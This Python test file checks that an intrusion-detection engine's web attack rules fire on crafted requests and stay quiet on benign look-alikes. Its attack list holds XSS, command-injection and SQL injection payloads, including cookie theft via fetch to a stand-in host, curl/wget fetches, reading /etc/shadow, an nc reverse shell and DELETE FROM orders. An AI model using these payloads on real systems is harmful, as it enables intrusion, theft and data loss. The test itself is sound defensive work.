#!/usr/bin/python3
"""The shipped XSS, OS command-injection and SQL injection rules
(rules/spectre.rules, sids 9000005 and 9000019-9000031) on generated HTTP
requests: each attack form fires the rule meant for it; benign look-alikes
(the words script, cat, id, ping, sleep, javascript, select, drop, or in
ordinary URIs and form bodies, names with apostrophes, matrix parameters,
font lists with '|') fire none of them.

  test_web_rules.py            (binary from $SPECTRE_DP or build/dataplane/spectre-dp)

Exit 0 all passed, 1 something failed. Last line: "N passed, N failed".
"""
import json
import os
import subprocess
import sys
import tempfile

HERE = os.path.dirname(os.path.abspath(__file__))
ROOT = os.path.dirname(os.path.dirname(HERE))
sys.path.insert(0, os.path.join(ROOT, "tests", "gen"))
sys.path.insert(0, os.path.join(ROOT, "tests", "live"))
from checks import Checks  # noqa: E402
from pcaplib import ether, ip_packet, l4_tcp, write_pcap  # noqa: E402

SYN, ACK, PSH, FIN = 0x02, 0x10, 0x08, 0x01
XSS, CMD = range(9000019, 9000024), range(9000024, 9000027)
SQLI = [9000005] + list(range(9000027, 9000032))

# (method, uri, body, sids that must fire: a set, any of which counts)
ATTACKS = [
    ("GET", "/find?term=<script>document.write(1)</script>", b"", {9000019}),
    ("GET", "/find?term=<SCRIPT%20src=//evil.example/x.js></SCRIPT>", b"", {9000019}),
    ("GET", "/view?c=<svg/onload=confirm(7)>", b"", {9000020}),
    ("GET", "/view?c=<body%20onpageshow=confirm(7)>", b"", {9000020}),
    ("GET", "/go?next=JavaScript:confirm(7)", b"", {9000021}),
    ("GET", "/find?term=%3Cscript%3Econfirm(7)%3C%2Fscript%3E", b"", {9000022}),
    ("GET", "/find?term=%3csvg%20onload%3dconfirm(7)%3e", b"", {9000022}),
    ("GET", "/p?x=\"-fetch('//e.example/'+document.cookie)-\"", b"", {9000023}),
    ("GET", "/diag?host=10.0.0.1;id", b"", {9000024}),
    ("GET", "/diag?host=10.0.0.1|cat%20/etc/shadow", b"", {9000024}),
    ("GET", "/diag?host=x$(curl%20http://e.example/s)", b"", {9000024}),
    ("GET", "/diag?host=x&&/bin/bash%20-i", b"", {9000024}),
    ("GET", "/diag?host=10.0.0.1%3Buname%20-a", b"", {9000025}),
    ("GET", "/diag?host=10.0.0.1%7Cnc%20-e%20/bin/sh%2010.0.0.9%204444", b"", {9000025}),
    ("POST", "/diag", b"host=10.0.0.1%3Bwget+http%3A%2F%2Fe.example%2Fx&go=1", {9000026}),
    ("POST", "/diag", b"host=10.0.0.1;sleep 5&go=1", {9000026}),
    ("GET", "/item?id=7%20union%20all%20select%20null,version()--", b"", {9000005}),
    ("GET", "/item?id=7'%20or%20'x'='x", b"", {9000027}),
    ("GET", "/login?u=bob'%20OR%201=1%20--%20", b"", {9000027}),
    ("GET", "/login?u=admin'%23&p=x", b"", {9000028}),
    ("GET", "/login?u=admin'/*&p=*/x", b"", {9000028}),
    ("GET", "/item?id=7;%20DELETE%20FROM%20orders%20--", b"", {9000029}),
    ("GET", "/item?id=7%3Bexec%20xp_cmdshell%20'dir'", b"", {9000029}),
    ("GET", "/item?id=7'%20AND%20pg_sleep(10)--", b"", {9000030}),
    ("GET", "/item?id=7);WAITFOR%20DELAY%20'0:0:5'--", b"", {9000031}),
]
BENIGN = [
    ("GET", "/category?cat=5&id=7", b""),
    ("GET", "/js/script.js?v=3", b""),
    ("GET", "/assets/scripts/app.min.js", b""),
    ("GET", "/docs/javascript/onload-event.html", b""),
    ("GET", "/search?q=javascript+tutorial&page=2", b""),
    ("GET", "/search?q=cat+pictures", b""),
    ("GET", "/search?q=dogs;cat+food", b""),
    ("GET", "/shop/items;jsessionid=A1B2C3?sort=price", b""),
    ("GET", "/css?family=Roboto|Open+Sans|Lato", b""),
    ("GET", "/status?ping=1&echo=hello", b""),
    ("GET", "/blog/how-to-use-the-wget-command-on-linux", b""),
    ("GET", "/search?q=tom+%26%26+jerry", b""),
    ("GET", "/search?q=%3Cb%3Ebold%3C%2Fb%3E", b""),
    ("GET", "/api/v2/users/42/sessions?fields=id,name", b""),
    ("POST", "/comment", b"text=I+like+cats%3B+they+are+nice.+Bring+snacks%3B+ping+me+later%3B+sleep+is+good"),
    ("POST", "/login", b"user=cathy&pass=s3cr3t%3Bx&remember=1"),
    ("POST", "/api", b'{"cmd": "list", "ids": [1, 2, 3], "script": "report"}'),
    ("GET", "/books?author=O'Reilly&sort=title", b""),
    ("GET", "/search?q=rock+'n'+roll+or+jazz", b""),
    ("GET", "/search?q=select+a+drop+down+menu", b""),
    ("GET", "/search?q=how+to+sleep+better;+tips", b""),
    ("GET", "/docs/sql/union-and-select-tutorial.html", b""),
    ("GET", "/search?q=it's+a+match+--+nice", b""),
    ("GET", "/wiki/Sleep_(1967_film)", b""),
    ("GET", "/cal?view=week;update=1", b""),
]


def session(frames, t, cli, srv, cport, request, response=b"HTTP/1.1 200 OK\r\nContent-Length: 0\r\n\r\n"):
    cs, ss, sport = 1000, 5000, 80

    def put(src, dst, sp, dp, seq, ack, flags, payload=b""):
        nonlocal t
        ethertype, l3 = ip_packet(src, dst, 6, l4_tcp(src, dst, sp, dp, seq, ack, flags, payload))
        frames.append((t, ether(src, dst, ethertype, l3)))
        t += 1000
    put(cli, srv, cport, sport, cs, 0, SYN)
    put(srv, cli, sport, cport, ss, cs + 1, SYN | ACK)
    put(cli, srv, cport, sport, cs + 1, ss + 1, ACK)
    put(cli, srv, cport, sport, cs + 1, ss + 1, PSH | ACK, request)
    put(srv, cli, sport, cport, ss + 1, cs + 1 + len(request), PSH | ACK, response)
    end_c, end_s = cs + 1 + len(request), ss + 1 + len(response)
    put(cli, srv, cport, sport, end_c, end_s, FIN | ACK)
    put(srv, cli, sport, cport, end_s, end_c + 1, FIN | ACK)
    put(cli, srv, cport, sport, end_c + 1, end_s + 1, ACK)
    return t


def request(method, uri, body):
    head = "%s %s HTTP/1.1\r\nHost: shop.example\r\nUser-Agent: Mozilla/5.0\r\n" % (method, uri)
    if body:
        head += "Content-Type: application/x-www-form-urlencoded\r\nContent-Length: %d\r\n" % len(body)
    return head.encode() + b"\r\n" + body


def main():
    dp = os.environ.get("SPECTRE_DP") or os.path.join(ROOT, "build", "dataplane", "spectre-dp")
    rules = os.path.join(ROOT, "rules", "spectre.rules")
    check = Checks()
    tmp = tempfile.mkdtemp(prefix="web-rules-")
    frames, t = [], 1700000000 * 10**6
    cases = [(m, u, b, want) for m, u, b, want in ATTACKS] + [(m, u, b, set()) for m, u, b in BENIGN]
    for i, (m, u, b, _) in enumerate(cases):  # one client port per case: its flow's alerts are its own
        t = session(frames, t + 10000, "198.18.5.10", "198.18.5.80", 20000 + i, request(m, u, b))
    pcap, eve = os.path.join(tmp, "web.pcap"), os.path.join(tmp, "eve.json")
    write_pcap(pcap, frames)
    r = subprocess.run([dp, "-r", pcap, "--config", "none", "-S", rules, "--strict", "--eve", eve],
                       capture_output=True, text=True, timeout=120)
    if not check(r.returncode == 0, "spectre-dp loads rules/spectre.rules strictly and runs", r.stderr):
        return check.summary()
    fired = {}
    with open(eve) as f:
        for line in f:
            e = json.loads(line)
            if e.get("event_type") == "alert":
                fired.setdefault(e["src_port"] - 20000, set()).add(e["alert"]["signature_id"])
    ours = set(XSS) | set(CMD) | set(SQLI)
    for i, (m, u, b, want) in enumerate(cases):
        got = fired.get(i, set()) & ours
        what = "%s %s%s" % (m, u, (" body " + b.decode(errors="replace")) if b else "")
        if want:
            check(want <= got, "attack fires %s: %s" % (sorted(want), what), "fired %s" % sorted(got))
        else:
            check(not got, "benign look-alike fires none of the web attack rules: %s" % what, "fired %s" % sorted(got))
    check.cleanup(tmp)
    return check.summary()


if __name__ == "__main__":
    sys.exit(main())
